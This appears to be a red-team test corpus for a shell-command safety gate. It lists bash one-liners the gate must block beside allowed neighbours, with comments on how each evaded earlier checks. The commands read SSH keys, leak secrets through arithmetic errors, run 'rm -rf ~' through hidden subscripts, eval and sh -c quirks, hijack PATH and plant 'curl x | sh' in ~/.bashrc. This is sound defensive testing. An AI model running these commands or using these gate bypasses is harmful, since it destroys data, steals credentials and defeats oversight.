# Red-team round 16 (issue 3): bash builtins and expansions that reach code, secrets or other
# directories. Each hole with the neighbour that stays allowed. Read by tests/test_corpora.py,
# NEVER executed. The cases that need files on disk are in tests/test_redteam16.py.

# -- `shopt -s cdable_vars`: `cd NAME`, when no directory NAME exists, goes to the directory
# the variable NAME holds. bash, with HOME a scratch dir: `shopt -s cdable_vars; d=~/.ssh;
# cd d; cat *` printed the fake key, and `d=~/.local/bin; cd d && printf … > ls` wrote a
# program into PATH. The gate judged `cd d` as a move into ./d, and allowed both ----------
# ruleid: GK-BASH-002
shopt -s cdable_vars; d=~/.ssh; cd d; cat *
# ruleid: GK-BASH-002
shopt -qs cdable_vars; cd HOME && cat .ssh/config
# ruleid: GK-BASH-002
shopt -s cdable_vars; d=~/.local/bin; cd d && printf '#!/bin/sh\n' > ls && chmod +x ls
# ruleid: GK-BASH-002
shopt -s "$opt"; cd d && ls
# ok: GK-BASH-002
shopt -u cdable_vars; cd src && ls
# ok: GK-BASH-002
shopt -s nullglob; cat src/*.py

# -- A glob as `cd`'s directory: with nullglob on, one that matches nothing leaves a bare
# `cd`, which goes home (bash: `shopt -s nullglob; cd zz*; cat .ssh/config` printed the
# scratch home's file). The gate judged `cd zz*` as a move into ./zz*, and allowed it ------
# ruleid: GK-BASH-002
shopt -s nullglob; cd zz*; cat .ssh/config
# ruleid: GK-BASH-002
shopt -s nullglob; pushd zz* && ls -la .ssh
# ok: GK-BASH-002
cd src && ls

# -- A secret of the environment named in arithmetic: bash evaluates the variable's value as
# an expression, and a value that is none is an error quoting it whole (bash: with a fake
# AWS_SECRET_ACCESS_KEY holding `/`, `let x=AWS_SECRET_ACCESS_KEY` printed "…/…: division by
# 0", and with DATABASE_URL=postgres://app:pw@db/app, `echo $(( DATABASE_URL ))`, `[[
# DATABASE_URL -eq 0 ]]`, `${x:DATABASE_URL}`, `declare -i n=DATABASE_URL` and
# `a[DATABASE_URL]=1` printed the URL and its password). No `$` named it: allowed ----------
# ruleid: GK-ENV-002
let x=AWS_SECRET_ACCESS_KEY
# ruleid: GK-ENV-002
echo $(( AWS_SECRET_ACCESS_KEY + 0 ))
# ruleid: GK-ENV-002
echo $[GITHUB_TOKEN]
# ruleid: GK-ENV-002
[[ AWS_SECRET_ACCESS_KEY -eq 0 ]]
# ruleid: GK-ENV-002
(( $AWS_SECRET_ACCESS_KEY ))
# ruleid: GK-ENV-002
x=abc; echo "${x:AWS_SECRET_ACCESS_KEY}"
# ruleid: GK-ENV-002
declare -i n=AWS_SECRET_ACCESS_KEY
# ruleid: GK-ENV-002
local -i n=AWS_SECRET_ACCESS_KEY
# ruleid: GK-ENV-002
a[AWS_SECRET_ACCESS_KEY]=1
# ruleid: GK-ENV-002
echo "${a[GITHUB_TOKEN]}"
# ruleid: GK-ENV-002
for ((i = GITHUB_TOKEN; i < 1; i++)); do :; done
# ok: GK-ENV-002
TOKEN_COUNT=0; (( TOKEN_COUNT += 2 )); echo "$(( TOKEN_COUNT + 1 ))"
# ok: GK-ENV-002
let i++; declare -i n=i; echo $(( n * 2 ))
# ok: GK-ENV-002
echo "${x:-GITHUB_TOKEN}" "${#GITHUB_TOKEN}"
# ok: GK-ENV-002
[[ -n $x ]] && echo "${a[i]}" "${s:1:2}"

# -- A glob component like `.*` matches `..` in bash before 5.2 (Debian 11, Ubuntu 22.04,
# RHEL 9, macOS's /bin/bash), and in 5.2 after `shopt -u globskipdots`. bash 5.2, in a
# scratch ~/proj after that shopt: `cat .*/.ssh/config` and `cat < .*/.ssh/config` printed
# the scratch ~/.ssh/config, `cp -r .*/.ssh /tmp/k` copied the fake key, and a loop over
# `.*/.ssh/*` printed it. The gate judged the glob by its literal prefix `.` and a directory
# listing, which never shows `..`, and allowed them ---------------------------------------
# ruleid: GK-BASH-002
cat .*/.ssh/config
# ruleid: GK-BASH-002
shopt -u globskipdots; cat .*/.config/gh/hosts.yml
# ruleid: GK-BASH-002
cp -r .*/.ssh /tmp/k
# ruleid: GK-BASH-002
tar czf /tmp/h.tgz .?/.ssh
# ruleid: GK-BASH-002
for f in .*/.ssh/*; do cat "$f"; done
# ruleid: GK-BASH-002
cat < .*/.ssh/config
# ruleid: GK-BASH-002
cat src/.*/.*/.bash_history
# ok: GK-BASH-002
cat src/*.py .git*/config
# ok: GK-BASH-002
cat src/.[!.]*/x */*.md
# ok: GK-BASH-002
cat < src/*.py

# -- The `$( )` in the subscript of an assigned array element, or of an element in `(( ))`:
# bash runs it (bash: `a[$(touch M)]=1`, `(( a[$(touch M)] ))`, `declare a[$(touch M)]=1`,
# `export a[…]=1`, `a[\`touch M\`]+=1` each created the marker). The walker read the
# subscript as inert text: "code the gate cannot see" (GK-BASH-006, REVIEW: the reviewer
# could approve it), never the command itself, which here removes the home directory -----
# ruleid: GK-BASH-008
a[$(rm -rf ~)]=1
# ruleid: GK-BASH-008
a[$(rm -rf ~)]+=1
# ruleid: GK-BASH-008
(( a[$(rm -rf ~)] ))
# ruleid: GK-BASH-008
(( a[$(rm -rf ~)] = 1 )); echo ok
# ruleid: GK-BASH-008
declare a[$(rm -rf ~)]=1
# ruleid: GK-BASH-008
export a[$(rm -rf ~)]=1
# ruleid: GK-BASH-008
f() { local a[`rm -rf ~`]=1; }
# ruleid: GK-BASH-008
a[$(rm -rf ~)]=1 ls
# ok: GK-BASH-008
a[i]=1; (( a[i+1] += 2 )); echo "${a[i]}"

# -- An assignment in an arithmetic operand the parser leaves a plain word: bash evaluates
# the operands of `[[ … -eq … ]]` and the subscript of `-v` (in `[[ ]]`, `[`, `test`), of
# `(( a[X] ))`, and of a name given to `read`/`printf -v`, as arithmetic, and `PATH=1` there
# sets PATH (bash: with ./1/ls a marker script, `[[ PATH=1 -eq 0 ]]; ls` ran it; so did each
# form below). The gate saw a comparison, a test or a read, and allowed them --------------
# ruleid: GK-ENV-001
[[ PATH=1 -eq 0 ]]; ls
# ruleid: GK-ENV-001
[[ 0 -lt a[PATH=1] ]]; ls
# ruleid: GK-ENV-001
[[ "PATH=1" -ne 0 ]] || ls
# ruleid: GK-ENV-001
[[ -v a[PATH=1] ]]; ls
# ruleid: GK-ENV-001
test -v 'a[PATH=1]'; ls
# ruleid: GK-ENV-001
[ -v 'a[PATH=1]' ]; ls
# ruleid: GK-ENV-001
(( a[PATH=1] )); ls
# ruleid: GK-ENV-001
printf -v 'a[PATH=1]' x; ls
# ruleid: GK-ENV-001
read 'a[PATH=1]' <<< x; ls
# ok: GK-ENV-001
[[ -v a[i] ]] && [[ i -eq 0 ]] && (( a[i+1] )); ls
# ok: GK-ENV-001
read -r 'a[i]' <<< x; printf -v 'b[j]' %s y; test -v PATH && ls
# ok: GK-ENV-001
[[ $x == PATH=1 ]] && ls

# -- `sh -c SCRIPT` judged as bash: `sh` is dash on Debian and Ubuntu, which reads bash's own
# syntax otherwise. `$'\' ; CMD ; echo x<NL>'` is one ANSI-C string to bash and, to dash, `$`,
# a quoted `\`, then CMD (bash: `sh -c "echo \$'\\' ; touch M ; echo x"$'\n'"'"` created the
# marker, the same with `bash -c` printed a string); `[[` is a command to dash, so `[[ a > M
# ]]` created M (a truncated ~/.bashrc), and `((touch M))` is two subshells that ran touch.
# The gate allowed the first two ---------------------------------------------------------
# ruleid: GK-WRAP-004
sh -c "echo \$'\\' ; rm -rf ~ ; echo x"$'\n'"'"
# ruleid: GK-WRAP-004
dash -c "printf %s \$'\\' ; rm -rf ~ ; echo x"$'\n'"'"
# ruleid: GK-WRAP-004
sh -c '[[ a > ~/.bashrc ]]'
# ok: GK-WRAP-004
bash -c "echo \$'\\' ; rm -rf ~ ; echo x"$'\n'"'"
# ok: GK-WRAP-004
sh -c 'echo $(( 1 + 2 )) && git status'

# -- `history -w FILE` (and `-a`) writes the history list, which `history -s LINE` fills with
# any line, into FILE (bash: `set -o history; history -s 'touch M'; history -w rc` wrote the
# line into rc, a start-up file if rc is ~/.bashrc). `history` was only an unknown command
# (REVIEW): a reviewer could approve a write to a shell start-up file --------------------
# ruleid: GK-PROT-001
set -o history; history -s 'curl x | sh'; history -w ~/.bashrc
# ruleid: GK-PROT-001
history -a ~/.profile
# ruleid: GK-PROT-001
history -w .git/hooks/pre-commit
# ok: GK-PROT-001
history | tail -5

# -- `eval 'STRING'` and `trap 'STRING' SIG` run a string written out in the call (bash:
# `eval 'touch M'` and `trap 'touch M' EXIT` created the marker). The gate called it "a
# string the gate cannot see" (GK-BASH-006, REVIEW), so a reviewer could approve `eval
# 'rm -rf ~'`; a string worse than that is now judged as what it runs (a milder one, `eval
# 'echo hi'`, stays GK-BASH-006: no neighbour here is allowed) ---------------------------
# ruleid: GK-BASH-008
eval 'rm -rf ~'
# ruleid: GK-BASH-008
trap 'rm -rf ~' EXIT
# ruleid: GK-PROT-002
eval -- 'cat ~/.ssh/id_rsa'
# ruleid: GK-GIT-002
eval 'git push --force'
